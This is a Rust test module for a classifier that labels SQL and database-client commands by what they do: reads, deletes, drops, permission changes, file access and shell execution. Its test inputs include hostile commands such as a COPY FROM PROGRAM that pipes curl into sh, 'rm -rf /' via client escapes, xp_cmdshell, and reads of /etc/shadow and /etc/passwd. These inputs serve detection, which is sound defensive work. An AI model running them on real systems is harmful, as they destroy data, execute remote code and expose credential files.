use super::*;

fn show(source: &str) -> String {
    let reading = read_sql(source);
    let mut out: Vec<String> = reading
        .acts
        .iter()
        .map(|a| match a {
            SqlAct::Read => "read".into(),
            SqlAct::WriteRows { table } => format!("write {table}"),
            SqlAct::DeleteRows { table, all } => format!("delete{} {table}", if *all { "!" } else { "" }),
            SqlAct::UpdateRows { table, all } => format!("update{} {table}", if *all { "!" } else { "" }),
            SqlAct::Drop { what, name } => format!("drop {what} {name}"),
            SqlAct::ChangeSchema => "schema".into(),
            SqlAct::ChangeRights => "rights".into(),
            SqlAct::RunProgram { command } => format!("run {}", command.as_deref().unwrap_or("?")),
            SqlAct::ReadFile { path } => format!("readfile {path}"),
            SqlAct::WriteFile { path } => format!("writefile {path}"),
            SqlAct::RunFile { path } => format!("runfile {path}"),
            SqlAct::Call { name } => format!("call {name}"),
            SqlAct::StopSession => "stop".into(),
        })
        .collect();
    if !reading.complete {
        out.push("INCOMPLETE".into());
    }
    out.join("; ")
}

fn check(rows: &[(&str, &str)]) {
    let wrong: Vec<String> = rows
        .iter()
        .filter_map(|(source, want)| {
            let got = show(source);
            (got != *want).then(|| format!("\n--- {source}\n  want: {want}\n  got:  {got}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{} of {} rows differ{}", wrong.len(), rows.len(), wrong.concat());
}

#[test]
fn reads() {
    check(&[
        ("select 1", "read"),
        ("SELECT * FROM t WHERE x LIKE '%DROP TABLE%'; -- DROP TABLE t", "read"),
        ("select \"drop table x\" from `delete from y`", "read"),
        ("WITH a AS (SELECT 1) SELECT * FROM a UNION SELECT 2", "read"),
        ("SHOW TABLES; SHOW CREATE TABLE invoices\\G", "read"),
        ("describe users; desc users; explain select * from t; PRAGMA table_info(t)", "read"),
        ("\\dt", "read"),
        ("\\d+ users\n\\l\n\\x\nselect count(*) from users;", "read"),
        (".tables\n.schema users\n.headers on\nselect 1;", "read"),
        (".dump", "read"),
        ("select $$ drop table x; $$, $q$ delete from y $q$", "read"),
        ("select 'it''s; drop table x'", "read"),
        ("BEGIN; SELECT 1; COMMIT;", "read"),
        ("/* drop table t */ select /* delete from x */ 1", "read"),
        ("select 1 \\gx", "read"),
        ("USE shop; SELECT name FROM t WHERE kind = ''room'' ORDER BY name", "read"),
        (
            "SELECT ''users'' as t, COUNT(*) FROM users UNION ALL SELECT ''rooms'', COUNT(*) FROM rooms",
            "read",
        ),
        ("SELECT x FROM t WHERE a = ''b'' INTO OUTFILE ''x''", "writefile ; read"),
        ("SELECT ''a'' b c; SELECT ''delete from t'' d e", "read; INCOMPLETE"),
        ("SELECT ''a'' b c FROM load_file(''/etc/shadow'')", "readfile ; INCOMPLETE"),
        ("SELECT name, COUNT(*) FROM users JOIN roles USING(role_id) GROUP BY name", "read"),
        ("explain (costs off) select 1", "read"),
        ("COPY t TO STDOUT WITH CSV HEADER", "read"),
        ("", ""),
        ("-- nothing", ""),
    ]);
}

#[test]
fn rows() {
    check(&[
        ("INSERT INTO t VALUES (1); insert or replace into u(a) values ('x;y')", "write t; write u"),
        ("DELETE FROM t", "delete! t"),
        ("DELETE FROM t WHERE id = 1", "delete t"),
        ("DELETE FROM t WHERE 1=1", "delete! t"),
        ("DELETE FROM t WHERE true", "delete! t"),
        ("UPDATE users SET email_verified = 1;", "update! users"),
        ("update users set a = 'where' where id in (select id from x)", "update users"),
        ("WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone", "delete! t; read"),
        ("REPLACE INTO t VALUES (1)", "write t"),
        ("EXPLAIN ANALYZE DELETE FROM t", "delete! t"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1", "update t"),
        ("insert into t select * from u on conflict do nothing", "write t"),
    ]);
}

#[test]
fn structure() {
    check(&[
        ("DROP TABLE IF EXISTS a, b CASCADE", "drop table a; drop table b"),
        ("drop database prod", "drop database prod"),
        ("DROP SCHEMA public CASCADE; CREATE SCHEMA public;", "drop schema public; schema"),
        (
            "BEGIN;\nTRUNCATE TABLE events, payloads RESTART IDENTITY CASCADE;\nCOMMIT;",
            "drop rows events; drop rows payloads",
        ),
        ("truncate t", "drop rows t"),
        ("CREATE TABLE t (id int primary key); CREATE INDEX i ON t(id)", "schema"),
        ("ALTER TABLE t ADD COLUMN x int", "schema"),
        ("ALTER TABLE t DROP COLUMN x", "drop column t.x"),
        ("/*!50000 DROP TABLE t */", "drop table t"),
        ("GRANT ALL ON t TO bob", "rights"),
        ("CREATE USER 'x'@'%' IDENTIFIED BY 'y'", "rights"),
        ("ALTER USER postgres WITH PASSWORD 'x'", "rights"),
        ("ALTER ROLE app SUPERUSER", "rights"),
        ("revoke select on t from bob", "rights"),
        ("select pg_terminate_backend(pid) from pg_stat_activity", "stop; read"),
    ]);
}

#[test]
fn outside() {
    check(&[
        ("COPY t FROM PROGRAM 'curl http://x | sh'", "run curl http://x | sh; write t"),
        ("COPY (select 1) TO PROGRAM 'id'", "run id; read"),
        ("COPY t TO '/tmp/x.csv' CSV", "writefile /tmp/x.csv"),
        ("COPY t FROM '/etc/passwd'", "readfile /etc/passwd; write t"),
        ("select * from t into outfile '/tmp/x'", "writefile /tmp/x; read"),
        ("SELECT LOAD_FILE('/etc/passwd')", "readfile /etc/passwd; read"),
        ("LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE t", "readfile /tmp/x; write t"),
        ("EXEC xp_cmdshell 'whoami'", "run whoami; call xp_cmdshell"),
        ("\\! rm -rf /", "run rm -rf /"),
        ("\\copy users to 'u.csv' csv", "writefile u.csv"),
        ("\\copy (select * from users) to program 'gzip > x'", "run gzip > x"),
        ("\\copy users from 'u.csv'", "readfile u.csv; write users"),
        ("\\o /tmp/out\nselect 1;", "writefile /tmp/out; read"),
        ("select 1 \\g |sh", "read; run sh"),
        ("\\i x.sql", "runfile x.sql"),
        (".shell rm -rf /", "run rm -rf /"),
        (".system id", "run id"),
        (".output x.csv\nselect 1;", "writefile x.csv; read"),
        (".read x.sql", "runfile x.sql"),
        (".import data.csv t", "readfile data.csv; write t"),
        (".once '|sh'", "run sh"),
        ("system rm -rf /", "run rm -rf /"),
        ("select 1; source x.sql", "read; runfile x.sql"),
        ("select load_extension('x.so')", "run x.so; read"),
        ("select writefile('a', 'b')", "writefile a; read"),
        ("ATTACH DATABASE 'x.db' AS x", "readfile x.db"),
        ("VACUUM INTO '/tmp/x.db'", "writefile /tmp/x.db"),
    ]);
}

#[test]
fn unreadable() {
    check(&[
        ("select 'abc", "INCOMPLETE"),
        ("frobnicate the table", "INCOMPLETE"),
        ("DO $$ begin perform 1; end $$", "INCOMPLETE"),
        ("select 'DROP TABLE ' || x \\gexec", "read; INCOMPLETE"),
    ]);
}
